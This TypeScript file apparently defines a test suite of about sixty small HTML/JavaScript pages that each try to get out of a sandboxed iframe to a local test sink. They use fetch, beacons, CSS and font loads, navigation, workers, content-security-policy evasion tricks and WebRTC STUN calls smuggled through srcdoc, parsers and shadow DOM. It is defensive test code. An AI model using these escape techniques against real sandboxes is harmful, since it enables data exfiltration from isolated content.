/**
 * One way for a card's page to get out. The page says `ran NAME` to its parent when it has tried. Where Chromium closes
 * a way by itself in any opaque frame, the page then tries the plain one, so that the control still proves that the
 * page ran and the sink listens.
 */
export interface Attack {
  readonly name: string;
  /** The measured rule or public failure that it repeats. */
  readonly rows: string;
  readonly over?: 'udp';
  html(sink: { origin: string; udpPort: number }): string;
}

function script(name: string, rows: string, code: (to: string) => string): Attack {
  return {
    name,
    rows,
    html: ({ origin }) =>
      `<!doctype html><body><script>
      const say = () => parent.postMessage('ran ${name}', '*');
      const to = ${JSON.stringify(`${origin}/${name}`)};
      (async () => { try { ${code('to')} } catch (error) { console.log(String(error)); } say(); })();
      </script>`,
  };
}

function markup(name: string, rows: string, body: (to: string) => string): Attack {
  return {
    name,
    rows,
    html: ({ origin }) =>
      `<!doctype html><head></head><body>${body(`${origin}/${name}`)}<script>parent.postMessage('ran ${name}', '*');</script>`,
  };
}

const stun = (name: string, rows: string, code: string): Attack => ({
  name,
  rows,
  over: 'udp',
  html: ({ udpPort }) => `<!doctype html><body><script>
    const servers = { iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] };
    const call = (Peer) => { const p = new Peer(servers); p.createDataChannel('x');
      p.createOffer().then((o) => p.setLocalDescription(o)); };
    const inner = "<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });" +
      "p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));<\\/script>";
    (async () => { try { ${code} } catch (error) { console.log(String(error)); }
      parent.postMessage('ran ${name}', '*'); })();
    </script>`,
});

export const attacks: readonly Attack[] = [
  script('fetch', 'M9', () => `await fetch(to).catch(() => 0);`),
  script('xhr', 'M9', () => `const x = new XMLHttpRequest(); x.open('GET', to); x.send();`),
  script('beacon', 'M9', () => `navigator.sendBeacon(to, 'x');`),
  script('keepalive', 'M9', () => `fetch(to, { keepalive: true, mode: 'no-cors' }).catch(() => 0);`),
  script('websocket', 'M9', () => `new WebSocket(to.replace('http', 'ws'));`),
  script('eventsource', 'M9', () => `new EventSource(to);`),
  script('image', 'M9', () => `new Image().src = to;`),
  script('audio', 'M9', () => `new Audio(to).play().catch(() => 0);`),
  markup('video', 'M9', (to) => `<video src="${to}" autoplay></video>`),
  markup('style-sheet', 'M9', (to) => `<link rel="stylesheet" href="${to}">`),
  markup('css-import', 'M9', (to) => `<style>@import url("${to}");</style>`),
  markup('css-image', 'M9', (to) => `<div style="background:url('${to}')">x</div>`),
  markup(
    'font',
    'M9',
    (to) => `<style>@font-face{font-family:f;src:url("${to}")}p{font-family:f}</style><p>text</p>`,
  ),
  markup('preload', 'M9', (to) => `<link rel="preload" as="image" href="${to}">`),
  markup('modulepreload', 'M9', (to) => `<link rel="modulepreload" href="${to}">`),
  markup('prefetch', 'M9', (to) => `<link rel="prefetch" href="${to}">`),
  markup('icon', 'M9', (to) => `<img src="${to}">`),
  markup('object', 'M9', (to) => `<object data="${to}"></object>`),
  markup('embed', 'M9', (to) => `<embed src="${to}">`),
  markup('nested-frame', 'M5', (to) => `<iframe src="${to}"></iframe>`),
  markup(
    'nested-srcdoc',
    'M5',
    (to) => `<iframe srcdoc="<img src='${to}'><script>fetch('${to}')</scri` + `pt>"></iframe>`,
  ),
  script('import', 'M8', () => `await import(to + '.js').catch(() => 0);`),
  markup('module-script', 'M8', (to) => `<script type="module" src="${to}.js"></script>`),
  markup('static-import', 'M8', (to) => `<script type="module">import '${to}.js';</script>`),
  markup('script-source', 'M8', (to) => `<script src="${to}.js"></script>`),
  markup(
    'borrowed-nonce',
    'M8, case 12',
    (to) => `<script nonce="c2NyaXB0bm9uY2Vmb3J0ZXN0cw" src="${to}.js"></script>`,
  ),
  script('worker', 'M9', () => {
    return `const b = new Blob(["fetch('" + to + "')"], { type: 'text/javascript' }); new Worker(URL.createObjectURL(b));`;
  }),
  script('shared-worker', 'M9', () => {
    return `const b = new Blob(["fetch('" + to + "')"], { type: 'text/javascript' });
      try { new SharedWorker(URL.createObjectURL(b)); } catch {} new Worker(URL.createObjectURL(b));`;
  }),
  script('blob-import', 'M8', () => {
    return `const b = new Blob(["import '" + to + ".js'"], { type: 'text/javascript' });
      await import(URL.createObjectURL(b)).catch(() => 0);`;
  }),
  script('location', 'M7, case 13', () => `say(); location = to;`),
  script('location-replace', 'M7, case 13', () => `say(); location.replace(to);`),
  markup(
    'meta-refresh',
    'M7, case 13',
    (to) =>
      `<script>parent.postMessage('ran meta-refresh', '*')</script><meta http-equiv="refresh" content="0;url=${to}">`,
  ),
  markup(
    'form-get',
    'M7, case 13',
    (to) => `<form id="f" action="${to}"><input name="q" value="1"></form><script>f.submit()</script>`,
  ),
  markup(
    'form-target-blank',
    'M7',
    (to) => `<form id="f" action="${to}" target="_blank"></form><script>f.submit()</script>`,
  ),
  script(
    'link-click',
    'M7',
    () => `const a = document.createElement('a'); a.href = to; document.body.append(a); say(); a.click();`,
  ),
  script('ping', 'M9', () => {
    return `const a = document.createElement('a'); a.href = '#'; a.ping = to; document.body.append(a); say();
      await new Promise((resolve) => setTimeout(resolve, 100));
      addEventListener('click', (event) => event.stopImmediatePropagation(), true); a.click();`;
  }),
  script('popup', 'A4', () => `window.open(to);`),
  script('top-navigation', 'A4', () => `say(); top.location = to;`),
  markup('base', 'M9', (to) => `<base href="${to}/"><img src="base">`),
  markup('head-comment', 'M13, case 10', (to) => `<!-- <head> --><img src="${to}">`),
  {
    name: 'script-before-head',
    rows: 'M13, case 10',
    html: ({ origin }) =>
      `\uFEFF<script>new Image().src='${origin}/script-before-head';parent.postMessage('ran script-before-head','*')</script><html><head></head>`,
  },
  markup(
    'second-policy',
    'M5, case 15',
    (to) =>
      `<meta http-equiv="Content-Security-Policy" content="default-src *; img-src *"><script>
      document.querySelectorAll('meta').forEach((m) => m.remove());</script><img src="${to}">`,
  ),
  script('document-open', 'case 15', () => {
    return `setTimeout(() => { document.open(); document.write('<img src="' + to + '">'); document.close(); });
      const d = document.implementation.createHTMLDocument(); d.body.append(new Image());
      new Image().src = to;`;
  }),
  script(
    'service-worker',
    'M9',
    () =>
      `try { navigator.serviceWorker.register(to + '.js').catch(() => 0); } catch {} new Image().src = to;`,
  ),
  script('speculation', 'M9', () => {
    return `const s = document.createElement('script'); s.type = 'speculationrules';
      try { s.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [to] }] }); document.head.append(s); } catch {}
      new Image().src = to;`;
  }),
  stun('webrtc', 'M10, case 14', `call(RTCPeerConnection);`),
  stun(
    'webrtc-srcdoc',
    'M11, case 14',
    `const f = document.createElement('iframe'); f.srcdoc = inner; document.body.append(f);`,
  ),
  stun(
    'webrtc-attribute',
    'M11',
    `const f = document.createElement('iframe'); f.setAttribute('srcdoc', inner); document.body.append(f);`,
  ),
  stun(
    'webrtc-attribute-node',
    'M11',
    `const f = document.createElement('iframe'); const a = document.createAttribute('srcdoc'); a.value = inner;
     f.setAttributeNode(a); document.body.append(f);`,
  ),
  stun(
    'webrtc-attribute-value',
    'M11',
    `const f = document.createElement('iframe'); const a = document.createAttribute('srcdoc');
     f.setAttributeNode(a); a.value = inner; document.body.append(f);`,
  ),
  stun(
    'webrtc-attribute-move',
    'M11',
    `const d = document.createElement('div'); d.setAttribute('srcdoc', inner);
     const f = document.createElement('iframe'); f.setAttributeNode(d.removeAttributeNode(d.attributes[0]));
     document.body.append(f);`,
  ),
  stun(
    'webrtc-inner-html',
    'M11',
    `const d = document.createElement('div'); document.body.append(d);
     d.innerHTML = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>';`,
  ),
  stun(
    'webrtc-write',
    'M11',
    `document.write('<ifr'); document.write('ame srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>');
     parent.postMessage('ran webrtc-write', '*');`,
  ),
  stun(
    'webrtc-parser',
    'M11',
    `const doc = new DOMParser().parseFromString('<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>', 'text/html');
     document.body.append(document.adoptNode(doc.querySelector('iframe')));`,
  ),
  stun(
    'webrtc-xml',
    'M11',
    `const safe = inner.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
     const doc = new DOMParser().parseFromString('<!DOCTYPE r [<!ENTITY e "&#60;x:iframe xmlns:x=\\'http://www.w3.org/1999/xhtml\\' srcdoc=\\'' +
       safe.replaceAll("'", '&#38;apos;').replaceAll('&lt;', '&#38;lt;').replaceAll('&quot;', '&#38;quot;') + '\\'/>">]><r>&e;</r>', 'text/xml');
     const f = document.createElement('iframe');
     const found = [...doc.querySelectorAll('*')].find((e) => e.localName === 'iframe');
     document.body.append(document.adoptNode(found ?? (f.srcdoc = inner, f)));`,
  ),
  stun(
    'webrtc-xml-prefix',
    'M11',
    `const doc = document.implementation.createDocument('http://www.w3.org/1999/xhtml', 'html');
     const safe = inner.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
     doc.documentElement.innerHTML = '<x:iframe xmlns:x="http://www.w3.org/1999/xhtml" srcdoc="' + safe + '"/>';
     document.body.append(document.adoptNode(doc.documentElement.firstChild));`,
  ),
  stun(
    'webrtc-fragment',
    'M11',
    `document.body.append(document.createRange().createContextualFragment('<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>'));`,
  ),
  stun(
    'webrtc-unsafe-html',
    'M11',
    `const d = document.createElement('div'); document.body.append(d);
     d.setHTMLUnsafe('<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>');`,
  ),
  stun(
    'webrtc-blank-frame',
    'M11',
    `const f = document.createElement('iframe'); document.body.append(f);
     try { call(f.contentWindow.RTCPeerConnection); } catch {}
     try { const g = document.createElement('iframe'); g.srcdoc = inner; document.body.append(g); } catch {}`,
  ),
  stun(
    'webrtc-javascript-frame',
    'M11',
    `const f = document.createElement('iframe'); document.body.append(f);
     f.src = 'javascript:' + encodeURIComponent(JSON.stringify(inner));
     try { const g = document.createElement('iframe'); g.srcdoc = inner; document.body.append(g); } catch {}`,
  ),
  stun(
    'webrtc-blob-frame',
    'M2',
    `const f = document.createElement('iframe');
     f.src = URL.createObjectURL(new Blob([inner], { type: 'text/html' })); document.body.append(f);`,
  ),
  stun(
    'webrtc-data-frame',
    'M2',
    `const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(inner); document.body.append(f);`,
  ),
  stun(
    'webrtc-object-frame',
    'M2',
    `const f = document.createElement('object'); f.data = 'data:text/html,' + encodeURIComponent(inner); document.body.append(f);`,
  ),
  stun(
    'webrtc-shadow',
    'M11',
    `const d = document.createElement('div'); const s = d.attachShadow({ mode: 'open' }); document.body.append(d);
     s.innerHTML = '<iframe srcdoc="' + inner.replaceAll('"', '&quot;') + '"></iframe>';`,
  ),
  stun(
    'webrtc-own-policy',
    'M11',
    `const p = trustedTypes.createPolicy('mine', { createHTML: (t) => t });
     const f = document.createElement('iframe'); f.srcdoc = p.createHTML(inner); document.body.append(f);`,
  ),
  {
    name: 'webrtc-markup',
    rows: 'M11',
    over: 'udp',
    html: ({ udpPort }) =>
      `<!doctype html><body><iframe srcdoc="<script>const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o));</script>"></iframe><script>parent.postMessage('ran webrtc-markup','*')</script>`,
  },
];
